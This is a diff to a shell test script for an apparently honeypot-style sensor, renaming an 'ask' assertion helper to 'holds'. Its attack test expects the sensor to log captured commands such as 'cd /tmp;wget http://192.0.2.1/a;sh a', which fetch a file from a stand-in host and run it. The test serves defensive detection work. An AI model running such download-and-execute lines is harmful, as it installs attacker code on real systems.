@@ -30,14 +30,6 @@ visit() {
     netns_in SENSOR curl --silent --show-error --max-time 20 "$@"
 }
 
-# ask NAME PYTHON COMMAND...: whether it holds of the JSON document d
-ask() {
-    local name=$1 check=$2
-    shift 2
-    "$release" "$@" --json --state "$TMPDIR/$name" |
-        python3 -c "import json, sys; d = json.load(sys.stdin); sys.exit(not ($check))"
-}
-
 number() { # NAME SQL
     sqlite3 -readonly "$TMPDIR/$1/teiten.db" "$2"
 }
@@ -71,7 +63,7 @@ for i in range(1, 250):
         assert s.recv(5) == b"HTTP/", i
 END
     until_true 10 eval '(($(number street "select count(*) from session where end is not null") == 249))' || fail "sessions are missing"
-    ask street "all(s['service'] == 'http' for s in d)" sessions --limit 0 || fail "the service is not told"
+    holds street "all(s['service'] == 'http' for s in d)" sessions --limit 0 || fail "the service is not told"
     "$release" sessions --limit 0 --json --state "$TMPDIR/street" | python3 -c '
 import json, sys
 found = {s["persona"]: s["destination"] for s in json.load(sys.stdin)}
@@ -131,7 +123,7 @@ clients() {
         x['host'] == '127.0.0.1:8080' and x['agent'].startswith('curl/')]" || fail "requests are not told"
     events clients "[x['size'] for x in e if x['type'] == 'request' and x.get('target') == '/nowhere'] == [2000000]" ||
         fail "sizes are not told"
-    ask clients "all(s['service'] == 'http' and s['end'] for s in d) and sum(s['logged_in'] for s in d) == 1" sessions --limit 0 ||
+    holds clients "all(s['service'] == 'http' and s['end'] for s in d) and sum(s['logged_in'] for s in d) == 1" sessions --limit 0 ||
         fail "$("$release" sessions --state "$TMPDIR/clients")"
     "$release" verify --state "$TMPDIR/clients" >/dev/null || fail "verify finds fault with sessions"
 }
@@ -177,9 +169,9 @@ attacks() {
         fail "downloads are not told"
     events attacks "[x['command'] for x in e if x['type'] == 'command'] == ['cd /tmp;wget http://192.0.2.1/a;sh a',
         'cd /tmp;wget http://192.0.2.1/b', 'id', 'wget http://192.0.2.1/c']" || fail "commands are not told"
-    ask attacks "sorted((x['name'], x['count'], x['sources']) for x in d) ==
+    holds attacks "sorted((x['name'], x['count'], x['sources']) for x in d) ==
         [('gpon-diag', 1, 1), ('jaws-shell', 1, 1), ('tr064-ntp', 1, 1)]" top entries || fail "top entries"
-    ask attacks "sum(s['downloads'] for s in d) == 3 and sum(s['commands'] for s in d) == 4" sessions || fail "sessions do not count them"
+    holds attacks "sum(s['downloads'] for s in d) == 3 and sum(s['commands'] for s in d) == 4" sessions || fail "sessions do not count them"
 }
 
 # ---- those who say nothing ----
